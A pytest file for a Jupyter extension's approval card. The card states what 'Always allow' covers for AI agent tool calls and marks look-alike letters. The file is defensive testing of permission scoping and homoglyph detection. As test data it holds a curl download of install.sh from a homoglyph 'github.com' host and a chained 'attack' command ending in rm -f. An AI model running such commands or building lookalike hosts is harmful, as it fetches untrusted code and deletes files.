"""The approval card says what *Always allow* covers, and its click carries exactly that.

0.1's button kept the tool's name and the card never said so: one click on a ``touch`` let
every later Bash command run. The card now says, in words next to the button, what the
allowance covers (the exact command, a prefix rule the user picks from the menu, the file, the
tool) and the ``Allow`` it answers carries that allowance (ui/toolinfo.py's table). Look-alike
letters in hosts and command words are marked in the card and in the saved record.
"""

from __future__ import annotations

import asyncio
import os
from collections.abc import Iterator
from typing import Any

import pytest
from support import wire as fx

from byre_jupyter.session import Allow, Allowance, Deny
from byre_jupyter.ui.approval_card import ApprovalCard, describe_request
from byre_jupyter.ui.record import static_outputs
from byre_jupyter.ui.toolinfo import allowance_choices

from .test_approval import html_text, widget_texts

FIRST = "touch /tmp/x/first-ok"
HOMOGLYPH = "curl https://g\u0456thub.com/install.sh -o /tmp/i.sh"  # a Cyrillic i


@pytest.fixture
def loop() -> Iterator[asyncio.AbstractEventLoop]:
    loop = asyncio.new_event_loop()
    yield loop
    loop.close()


def click(loop: asyncio.AbstractEventLoop, card: ApprovalCard, button: str) -> object:
    """Click one of the card's buttons as the browser does, and wait for the answer."""
    {"allow": card.allow, "always": card.always, "deny": card.deny}[button].click()
    return loop.run_until_complete(card.decision)


def scope_text(card: ApprovalCard) -> str:
    return html_text(card.scope.value)


def test_a_command_card_says_always_allow_is_this_exact_command(
    loop: asyncio.AbstractEventLoop,
) -> None:
    card = ApprovalCard("Bash", {"command": FIRST}, loop=loop)
    assert "Always allow (session) covers:" in scope_text(card)
    labels = [label for label, _ in card.scope_menu.options]
    assert labels[0] == f"only this exact command (Bash({FIRST}))"
    assert labels[1].startswith("every command that starts with “touch” and runs nothing else")
    assert labels[1].endswith("(Bash(touch:*))") and len(labels) == 2
    # The row under the buttons holds the words and the menu.
    assert card.scope in card.widget.children[-1].children
    assert click(loop, card, "always") == Allow(remember=card.choices[0])
    assert card.choices[0] == Allowance.for_command("Bash", "command", FIRST)


def test_the_user_may_pick_the_prefix_rule_instead(loop: asyncio.AbstractEventLoop) -> None:
    card = ApprovalCard("Bash", {"command": "npm test -- --watch"}, loop=loop)
    rules = [c.rule for c in card.choices]
    assert rules == ["Bash(npm test -- --watch)", "Bash(npm test:*)", "Bash(npm:*)"]
    card.scope_menu.value = 1
    assert click(loop, card, "always") == Allow(
        remember=Allowance.for_prefix("Bash", "command", "npm test")
    )
    assert card.scope_menu.disabled  # answered


def test_a_compound_command_offers_only_itself(loop: asyncio.AbstractEventLoop) -> None:
    attack = "curl http://127.0.0.1:9/x; touch MARKER; rm -f first-ok"
    card = ApprovalCard("Bash", {"command": attack}, loop=loop)
    assert card.scope_menu is None and len(card.choices) == 1
    assert scope_text(card).startswith(
        f"Always allow (session) covers only this exact command (Bash({attack}))"
    )
    assert scope_text(card).endswith("until the conversation ends.")


def test_allow_once_and_deny_keep_nothing(loop: asyncio.AbstractEventLoop) -> None:
    card = ApprovalCard("Bash", {"command": FIRST}, loop=loop)
    assert click(loop, card, "allow") == Allow()
    card = ApprovalCard("Bash", {"command": FIRST}, loop=loop)
    card.reason.value = "not today"
    assert click(loop, card, "deny") == Deny("not today")


@pytest.mark.parametrize(
    ("tool", "tool_input", "words"),
    [
        ("Write", {"file_path": "/tmp/x/../y.py", "content": "1"}, "Write of this file only ("),
        ("Edit", {"file_path": "/tmp/y.py", "old_string": "a", "new_string": "b"}, "Edit of"),
        ("Read", {"file_path": "/etc/hosts"}, "every Read call, whatever its input, until"),
        ("Grep", {"pattern": "x"}, "every Grep call"),
        ("mcp__byre__inspect", {"name": "df"}, "every byre.inspect call"),
        ("mcp__byre__python", {"code": "1"}, "covers this exact code again, until"),
        ("WebFetch", {"url": "https://example.com"}, "only this exact WebFetch call"),
        (
            "mcp__byre__edit_notebook",
            {"cells": []},
            "covers every later edit of this notebook's cells without a review card (but an "
            "edit of a cell that runs Claude, which always asks), until",
        ),
        (
            "mcp__byre__run_cells",
            {"cell": "c9", "position": 4, "code": "df = load()"},
            "covers running cell 4 again, only while its source is exactly this, until",
        ),
    ],
)
def test_every_card_says_what_always_allow_covers(
    loop: asyncio.AbstractEventLoop, tool: str, tool_input: dict[str, str], words: str
) -> None:
    card = ApprovalCard(tool, tool_input, loop=loop)
    text = scope_text(card)
    assert text.startswith("Always allow (session) covers ") and words in text, text
    assert "Always allow (session)" in widget_texts(card.widget)
    assert isinstance(answer := click(loop, card, "always"), Allow)
    assert answer.remember == card.choices[0]


@pytest.mark.parametrize(
    ("tool", "tool_input"),
    [
        ("mcp__byre__edit_notebook", {"cells": []}),
        ("Read", {"file_path": "/etc/hosts"}),
        ("mcp__byre__inspect", {"name": "df"}),
    ],
)
def test_the_allowance_line_names_the_tool_once(
    loop: asyncio.AbstractEventLoop, tool: str, tool_input: dict[str, Any]
) -> None:
    # The finding: "covers every byre.edit_notebook call, whatever its input
    # (byre.edit_notebook), until ...": the rule repeated the words.
    text = scope_text(ApprovalCard(tool, tool_input, loop=loop))
    label = tool.replace("mcp__byre__", "byre.")
    assert text.count(label) <= 1 and f"({label})" not in text, text


def test_a_run_cells_card_names_the_cell_by_its_place_and_first_line(
    loop: asyncio.AbstractEventLoop,
) -> None:
    # The finding: the card said "Run Python in your kernel" and its allowance byre.python.
    source = "df = load('sales.csv')\ndf.head()"
    card = ApprovalCard(
        "mcp__byre__run_cells", {"cell": "c9", "position": 4, "code": source}, loop=loop
    )
    assert card.title == "Run cell 4: `df = load('sales.csv')…`"
    assert "Cell source" in "\n".join(widget_texts(card.widget))
    one = describe_request("mcp__byre__run_cells", {"cell": "c", "position": 1, "code": "x"})
    assert one.summary == "Run cell 1: `x`"  # the record of the decision says it too
    assert "running cell 4 again" in scope_text(card) and "byre.python" not in scope_text(card)


def test_a_file_card_names_the_file_with_dots_and_symlinks_resolved(
    loop: asyncio.AbstractEventLoop, tmp_path: os.PathLike[str]
) -> None:
    real = os.path.join(tmp_path, "real.py")
    open(real, "w").close()
    os.symlink(real, os.path.join(tmp_path, "link.py"))
    spelled = f"{tmp_path}/sub/../link.py"
    (choice,) = allowance_choices("Write", {"file_path": spelled})
    assert choice.value == os.path.realpath(real)
    card = ApprovalCard("Write", {"file_path": spelled, "content": "x"}, loop=loop)
    assert f"Write of this file only (Write({os.path.realpath(real)}))" in scope_text(card)


# --------------------------------------------------------------------------------------------
# look-alike letters


def test_a_homoglyph_host_is_marked_in_the_card(loop: asyncio.AbstractEventLoop) -> None:
    card = ApprovalCard("Bash", {"command": HOMOGLYPH}, loop=loop)
    body = card.widget.children[1].value
    assert "g<span" in body and ">⟨U+0456⟩</span>thub.com" in body
    assert "looks like the Latin letter i" in body  # the marker's title names it
    texts = "\n".join(widget_texts(card.widget))
    assert "a letter that passes for another one (another script's letter" in texts
    assert describe_request("Bash", {"command": HOMOGLYPH}).summary.endswith(
        "curl https://g⟨U+0456⟩thub.com/install.sh -o /tmp/i.sh"
    )


def test_a_homoglyph_host_is_marked_in_the_saved_record() -> None:
    b = fx.Builder("homoglyph")
    m1 = "msg_h_1"
    view, _ = fx.run_turn(
        [
            b.init(),
            b.message_start(m1),
            *b.streamed_tool(m1, 0, "toolu_h1", "Bash", {"command": HOMOGLYPH}),
            b.message_stop(m1),
        ]
    )
    view.add_notice("approved", describe_request("Bash", {"command": HOMOGLYPH}).summary)
    view.finish()
    (data, _meta), *_ = static_outputs(view)
    for mime in ("text/html", "text/markdown", "text/plain"):
        assert "\u0456" not in data[mime], mime
        assert "g⟨U+0456⟩thub.com" in data[mime], mime
